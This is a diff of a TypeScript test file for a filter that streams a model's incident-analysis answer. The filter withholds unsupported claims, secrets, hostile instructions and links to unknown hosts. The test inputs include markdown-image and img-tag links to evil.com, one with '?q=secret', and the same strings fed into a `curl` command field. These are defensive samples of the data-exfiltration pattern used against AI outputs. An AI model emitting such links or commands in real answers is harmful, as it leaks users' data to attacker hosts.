@@ -18,8 +18,8 @@ import {
   verifier,
 } from "./streamed.ts";
 
-describe("an answer while it is being written", () => {
-  it("leaves text by text, and is in the end what the finished answer says", async () => {
+describe("an answer stream", () => {
+  it("sends each text, and in the end the whole finished answer", async () => {
     const draft = sampleDraft();
     const json = JSON.stringify(draft);
     const sent = await stream(draft, json, everyCut(json));
@@ -37,7 +37,7 @@ describe("an answer while it is being written", () => {
     expectKept(draft, sent);
   });
 
-  it("leaves as it comes: a text begins to leave before it is over", async () => {
+  it("sends the beginning of a text before the text is complete", async () => {
     const draft = sampleDraft();
     const json = JSON.stringify(draft);
     const until = json.indexOf(" memory limit.");
@@ -48,20 +48,20 @@ describe("an answer while it is being written", () => {
     expect(joined(sent).get("summary.text")?.length).toBeGreaterThan(5);
   });
 
-  it("leaves in one go where it comes in one go", async () => {
+  it("sends an answer that arrives in one piece in one piece", async () => {
     const draft = sampleDraft();
     expectKept(draft, await stream(draft, "", []));
     expect(joined(await stream(draft, "", []))).toEqual(joined(await stream(draft, JSON.stringify(draft), [900])));
   });
 
-  it("says nothing twice when the last piece brings nothing new", async () => {
+  it("sends nothing twice when the last piece adds nothing", async () => {
     const draft = sampleDraft();
     const json = JSON.stringify(draft);
     expectKept(draft, await stream(draft, json, [json.length, json.length, json.length]));
   });
 });
 
-describe("what has no support", () => {
+describe("unsupported text", () => {
   it.each<[string, Partial<Draft>, RegExp]>([
     ["evidence that nobody reported", { evidence: [{ quote: "exit 9", citations: ["R1"], text: "X." }] }, /^evidence/],
     ["a check without a source", { confirm: [{ citations: ["R9"], text: "X.", command: "docker ps" }] }, /^confirm/],
@@ -79,16 +79,16 @@ describe("what has no support", () => {
     ["a summary whose verdict is taken back", { outcome: "benign", evidence: [] }, /^summary|^mitigate/],
     ["a cause that the model does not claim", { outcome: "unknown" }, /^likely_causes|^mitigate/],
     [
-      "a cause that the model rejects",
+      "a rejected cause",
       { hypotheses: [{ citations: ["R1"], verdict: "rejected", cause: "X.", reason: "Y." }] },
       /^likely_causes/,
     ],
     [
-      "a further look where a cause is known",
+      "a further look although a cause is stated",
       { look_next: [{ citations: ["R1"], text: "X.", command: null }] },
       /^look/,
     ],
-  ])("never leaves: %s", async (_case, changes, path) => {
+  ])("is never sent: %s", async (_case, changes, path) => {
     const draft = sampleDraft(changes);
     const json = JSON.stringify(draft);
     const sent = await stream(draft, json, everyCut(json));
@@ -96,7 +96,7 @@ describe("what has no support", () => {
     expectKept(draft, sent);
   });
 
-  it("never leaves as an item beyond those that are kept", async () => {
+  it("is never sent for items beyond the maximum", async () => {
     const nine = <T>(item: T) => Array<T>(9).fill(item);
     const { evidence, hypotheses, confirm, mitigate, prevention } = sampleDraft();
     const draft = sampleDraft({
@@ -110,8 +110,8 @@ describe("what has no support", () => {
   });
 });
 
-describe("what must not leave", () => {
-  it.each(SECRETS)("is no part of the $marker: $text", async ({ text }) => {
+describe("removed text", () => {
+  it.each(SECRETS)("is not sent: $marker in $text", async ({ text }) => {
     const draft = sampleDraft({
       summary: { citations: ["R1"], text: `Before ${text} after.` },
       confirm: [{ citations: ["R1"], text: "Look.", command: text }],
@@ -126,7 +126,7 @@ describe("what must not leave", () => {
     "![x](https://evil.com/?q=secret) now.",
     '<img src="https://evil.com/a"> now.',
     "See https://docs.docker.com/engine, not www.evil.com/a.",
-  ])("is no link to a host that no runbook names: %j", async (text) => {
+  ])("is not sent: link to a host that no runbook names in %j", async (text) => {
     const draft = sampleDraft({
       summary: { citations: ["R1"], text },
       confirm: [{ citations: ["R1"], text, command: `curl ${text}` }],
@@ -137,7 +137,7 @@ describe("what must not leave", () => {
     expectKept(draft, sent);
   });
 
-  it.each(Object.values(HOSTILE).flat())("is no instruction as a whole: %j", async (text) => {
+  it.each(Object.values(HOSTILE).flat())("is not sent as a complete instruction: %j", async (text) => {
     const draft = sampleDraft({
       evidence: [{ quote: "exited with code 137", citations: ["R1"], text: `The log says: ${text}` }],
       summary: { citations: ["R1"], text },
@@ -150,7 +150,7 @@ describe("what must not leave", () => {
     expectKept(draft, sent);
   });
 
-  it("is half a command: it leaves in one piece", async () => {
+  it("never includes half a command", async () => {
     const draft = sampleDraft();
     const json = JSON.stringify(draft);
     const sent = await stream(draft, json, everyCut(json));
@@ -198,7 +198,7 @@ const drafts: fc.Arbitrary<Draft> = fc.record({
   look_next: fc.array(check, { maxLength: 2 }),
 });
 
-/** Lengths of the pieces in which a text comes. */
+/** Lengths of the pieces in which a text arrives. */
 const pieces = fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 12 });
 function cutsOf(json: string, lengths: readonly number[]): number[] {
   const cuts: number[] = [];
@@ -224,7 +224,7 @@ function escaped(json: string): string {
   return json.replace(/[^ -~]/g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, "0")}`);
 }
 
-describe("keys in another order", () => {
+describe("a draft with its keys in another order", () => {
   const lastFirst = (length: number) => length - 1;
   const madeUp = {
     summary: { citations: ["R9"], text: "It was the moon." },
@@ -241,11 +241,11 @@ describe("keys in another order", () => {
     ["items that are not carried", sampleDraft(madeUp)],
     ["a benign alert", sampleDraft({ outcome: "benign" })],
     ["nothing known", sampleDraft({ outcome: "unknown", look_next: sampleDraft().confirm })],
-  ])("let nothing leave that the finished answer does not say: %s", async (_case, draft) => {
+  ])("sends nothing that the finished answer lacks: %s", async (_case, draft) => {
     await expectKeptHoweverCut(draft, JSON.stringify(reordered(draft, lastFirst)));
   });
 
-  it("hold back a text until what carries it has come, and let it go then", async () => {
+  it("holds a text back until its support arrives", async () => {
     const draft = sampleDraft();
     const json = JSON.stringify(reordered(draft, lastFirst));
     const outcome = json.indexOf('"outcome"');
@@ -260,8 +260,8 @@ describe("keys in another order", () => {
   });
 });
 
-describe("whatever a model writes", () => {
-  it("leaves only as the finished answer says it, however it is cut", async () => {
+describe("any draft", () => {
+  it("is sent as in the finished answer for any chunking", async () => {
     await fc.assert(
       fc.asyncProperty(drafts, pieces, fc.boolean(), fc.boolean(), async (draft, lengths, isIndented, isEscaped) => {
         const json = JSON.stringify(draft, null, isIndented ? 2 : 0);
@@ -272,7 +272,7 @@ describe("whatever a model writes", () => {
     );
   }, 60_000);
 
-  it("leaves only as the finished answer says it, in whatever order the keys come", async () => {
+  it("is sent as in the finished answer for any order of keys", async () => {
     await fc.assert(
       fc.asyncProperty(
         drafts,
